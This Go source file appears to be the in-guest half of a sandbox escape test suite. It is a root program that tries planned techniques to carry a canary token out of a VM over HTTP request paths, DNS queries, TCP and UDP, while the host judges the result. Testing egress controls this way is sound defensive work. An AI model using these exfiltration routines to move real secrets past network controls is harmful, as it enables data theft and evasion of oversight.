//go:build linux && escape

// Attack is the half of the escape suite that runs in the guest, as root. One run
// tries one technique of the plan to carry a token out, and prints what it saw. It
// never judges the result: the test on the host does.
//
//	attack [-stock] [-ech HEX] [-port N] [-other PLACEHOLDER] NUMBER TOKEN
//	attack listen        # in the second VM: record what comes in
package main

import (
	"bufio"
	"context"
	"encoding/hex"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"os"
	"strconv"
	"time"

	"github.com/miekg/dns"

	"github.com/agent-sessionizer/agent-sessionizer/test/escape/plan"
)

// These limits are for connections that are never answered. The host sees what gets
// through, whether or not the answer comes back in time.
const (
	connectTime = 30 * time.Second
	answerTime  = 6 * time.Second
	fenceTime   = 3 * time.Minute
)

// attempt is one run of one technique.
type attempt struct {
	token   string
	stock   bool // without an egress gateway: slirp
	ech     []byte
	sshPort int    // of the second VM, on the host's loopback
	other   string // a placeholder of another session
}

func main() {
	var a attempt
	flag.BoolVar(&a.stock, "stock", false, "the network is slirp's")
	ech := flag.String("ech", "", "an ECHConfigList in `hex`")
	flag.IntVar(&a.sshPort, "port", 0, "the second VM's SSH port on the host")
	flag.StringVar(&a.other, "other", "", "a placeholder of another session")
	flag.Parse()
	var err error
	switch a.ech, err = hex.DecodeString(*ech); {
	case err != nil:
	case flag.Arg(0) == "listen":
		err = listen()
	default:
		err = a.run(flag.Arg(0), flag.Arg(1))
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "attack:", err)
		os.Exit(1)
	}
}

func (a *attempt) run(number, token string) error {
	n, err := strconv.Atoi(number)
	if err != nil || n < 1 || n > len(plan.Techniques) || token == "" {
		return errors.New("give the number of a technique and a token")
	}
	try, ok := techniques()[plan.Techniques[n-1].Name]
	if !ok {
		return fmt.Errorf("technique %d is not written", n)
	}
	a.token = token
	try(a)
	return a.fence()
}

// fence repeats a request that is always allowed until it succeeds. The network must
// have survived the technique, and the host has then seen all of its traffic.
func (a *attempt) fence() error {
	ctx, cancel := context.WithTimeout(context.Background(), fenceTime)
	defer cancel()
	for {
		err := a.fenceOnce()
		if err == nil {
			fmt.Println("fence passed")
			return nil
		}
		select {
		case <-ctx.Done():
			return fmt.Errorf("the network is gone: %w", err)
		case <-time.After(time.Second):
		}
	}
}

func (a *attempt) fenceOnce() error {
	c, err := a.connect(plan.Allowed, 80)
	if err != nil {
		return err
	}
	defer c.Close()
	if err := c.SetDeadline(time.Now().Add(connectTime)); err != nil {
		return err
	}
	if _, err := fmt.Fprintf(c, "GET %s%s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", plan.Fence, a.token, plan.Allowed); err != nil {
		return err
	}
	resp, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	if _, err := io.Copy(io.Discard, resp.Body); err != nil || resp.StatusCode != http.StatusOK {
		return fmt.Errorf("fence: %s %w", resp.Status, err)
	}
	return nil
}

// say reports to the host what was seen. A canary in it is evidence.
func say(format string, args ...any) { fmt.Printf(format+"\n", args...) }

// resolverAddr returns the resolver that the network hands out.
func (a *attempt) resolverAddr() string {
	if a.stock {
		return net.JoinHostPort(plan.StockDNS, "53")
	}
	return net.JoinHostPort(plan.Gateway, "53")
}

// ask sends one question to a resolver and prints the answer.
func (a *attempt) ask(network, server, name string, qtype uint16) *dns.Msg {
	q := new(dns.Msg)
	q.SetQuestion(dns.Fqdn(name), qtype)
	return a.exchange(network, server, q)
}

func (a *attempt) exchange(network, server string, q *dns.Msg) *dns.Msg {
	c := dns.Client{Net: network, Timeout: answerTime}
	r, _, err := c.Exchange(q, server)
	if err != nil {
		say("dns %s @%s %s: %v", network, server, q.Question[0].Name, err)
		return nil
	}
	say("dns %s @%s %s: %s %v", network, server, q.Question[0].Name, dns.RcodeToString[r.Rcode], r.Answer)
	return r
}

// resolve returns the addresses that the network gives for a name.
func (a *attempt) resolve(name string) []netip.Addr {
	if addr, err := netip.ParseAddr(name); err == nil {
		return []netip.Addr{addr}
	}
	var addrs []netip.Addr
	for _, qtype := range []uint16{dns.TypeA, dns.TypeAAAA} {
		r := a.ask("udp", a.resolverAddr(), name, qtype)
		if r == nil {
			continue
		}
		for _, rr := range r.Answer {
			switch rr := rr.(type) {
			case *dns.A:
				addr, _ := netip.AddrFromSlice(rr.A.To4())
				addrs = append(addrs, addr)
			case *dns.AAAA:
				addr, _ := netip.AddrFromSlice(rr.AAAA)
				addrs = append(addrs, addr)
			}
		}
	}
	return addrs
}

// connect connects to a name or an address, at the first address that answers.
func (a *attempt) connect(name string, port int) (*net.TCPConn, error) {
	err := fmt.Errorf("%s has no address", name)
	for _, addr := range a.resolve(name) {
		var c net.Conn
		d := net.Dialer{Timeout: connectTime}
		if c, err = d.Dial("tcp", netip.AddrPortFrom(addr, uint16(port)).String()); err == nil {
			return c.(*net.TCPConn), nil //nolint:forcetypeassert // "tcp" dials this type
		}
		say("tcp %s:%d: %v", name, port, err)
	}
	return nil, err
}

// send connects, sends something, and reports the first answer.
func (a *attempt) send(name string, port int, parts ...string) {
	c, err := a.connect(name, port)
	if err != nil {
		say("tcp %s:%d: %v", name, port, err)
		return
	}
	defer c.Close()
	for _, part := range parts {
		if _, err := io.WriteString(c, part); err != nil {
			say("tcp %s:%d: write: %v", name, port, err)
		}
	}
	say("tcp %s:%d: connected; %s", name, port, answer(c))
}

// answer reads until the other side has sent something or the time is up.
func answer(c net.Conn) string {
	b := make([]byte, 2048)
	_ = c.SetReadDeadline(time.Now().Add(answerTime)) // the read reports an error
	n, err := c.Read(b)
	return fmt.Sprintf("read %q %v", b[:n], err)
}

// get returns a plain request with the token in its path.
func (a *attempt) get(host string) string {
	return "GET /" + a.token + " HTTP/1.1\r\nHost: " + host + "\r\n\r\n"
}

// datagrams sends the token over UDP, several times, and reports an answer.
func (a *attempt) datagrams(addr string, port int) {
	c, err := net.Dial("udp", net.JoinHostPort(addr, strconv.Itoa(port)))
	if err != nil {
		say("udp %s:%d: %v", addr, port, err)
		return
	}
	defer c.Close()
	for range 3 {
		if _, err := io.WriteString(c, a.token); err != nil {
			say("udp %s:%d: %v", addr, port, err)
			continue
		}
		b := make([]byte, 512)
		_ = c.SetReadDeadline(time.Now().Add(time.Second)) // the read reports an error
		n, err := c.Read(b)
		say("udp %s:%d: read %q %v", addr, port, b[:n], err)
		if err == nil {
			return
		}
	}
}
